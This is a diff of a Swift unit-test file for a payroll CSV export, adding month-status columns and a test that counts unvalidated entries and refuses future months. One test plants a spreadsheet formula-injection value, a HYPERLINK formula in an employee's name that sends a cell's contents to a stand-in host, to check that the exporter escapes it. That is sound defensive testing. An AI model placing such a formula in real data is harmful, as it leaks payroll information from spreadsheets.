@@ -10,20 +10,20 @@ final class PayrollExportCSVTests: XCTestCase {
         try database.applyPulled(QueueFixture.validatedElsewhere(QueueFixture.byClerkAC1))
         let rules = try RuleBook.bundled()
         let rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
-        let file = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue)
+        let file = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: false)
         XCTAssertEqual(file.header, [
             "dossier_number", "name", "scheduled_days", "worked_days", "paid_annual_leave", "paid_public_holiday",
             "paid_sick", "paid_work_accident", "paid_birth_leave", "paid_maternity", "paid_circumstance",
             "paid_compensatory_rest", "unpaid_strike", "unpaid_unjustified", "unpaid_time_credit", "training_minutes",
             "paid_absence_days", "unpaid_absence_days", "sickness_days", "overtime_minutes", "lateness_minutes",
-            "corrections",
+            "corrections", "submitted_entries", "draft_entries", "month_status",
         ])
         XCTAssertEqual(file.rows.count, 20, "every dossier of the commune, none of the CPAS")
         // November 2026: 21 weekdays, 2 and 11 November are holidays in Brussels, leave validated on 2 and 3 November
         // (the 2nd is a holiday, so one day of leave).
         XCTAssertEqual(file.rows.first { $0[0] == "AC-000101" },
                        ["AC-000101", "Van den Bossche, Éloïse", "21", "18", "1", "2", "0", "0", "0", "0", "0", "0", "0",
-                        "0", "0", "0", "3", "0", "0", "0", "0", ""])
+                        "0", "0", "0", "3", "0", "0", "0", "0", "", "0", "0", "provisional"])
         XCTAssertEqual(file.rows.first { $0[0] == "AC-000102" }?[2...5], ["21", "19", "0", "2"])
         XCTAssertTrue(file.text.contains("\r\nAC-000101;Van den Bossche, Éloïse;21;18;1;2;"), file.text)
     }
@@ -35,11 +35,27 @@ final class PayrollExportCSVTests: XCTestCase {
         var rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
         let index = try XCTUnwrap(rows.firstIndex { $0.dossierNumber == "AC-000101" })
         rows[index].lastName = "=HYPERLINK(\"http://x?\"&A2,\"De Coster\")"
-        let text = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue).text
+        let text = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: true).text
         XCTAssertTrue(text.contains("\r\nAC-000101;\"'=HYPERLINK(\"\"http://x?\"\"&A2,\"\"De Coster\"\"), Éloïse\";21;"), text)
         let parsed = try CSVTable.parse(text, separator: ";")
         XCTAssertEqual(parsed.first { $0.fields.first == "AC-000101" }?.fields[1],
                        "=HYPERLINK(\"http://x?\"&A2,\"De Coster\"), Éloïse")
+    }
+
+    /// An entry still waiting for validation is not in the figures but is counted on its line,
+    /// and a month still to come is refused.
+    func testEntriesNotYetValidatedAreCountedAndAFutureMonthIsRefused() throws {
+        let database = try QueueFixture.closingOnly()
+        let rules = try RuleBook.bundled()
+        let rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
+        XCTAssertEqual(rows.map(\.submittedEntries).reduce(0, +), 1, "the entry waiting for validation")
+        let file = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: false)
+        let waiting = try XCTUnwrap(file.rows.first { $0[$0.count - 3] == "1" })
+        XCTAssertEqual(waiting.last, "provisional")
+        XCTAssertThrowsError(try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-12"),
+                                                        rules: rules)) { error in
+            XCTAssertEqual((error as? RuleViolation)?.code, "export.future_month", "the office's month is 11/2026")
+        }
     }
 
     func testHalfDaysUseTheDecimalComma() {
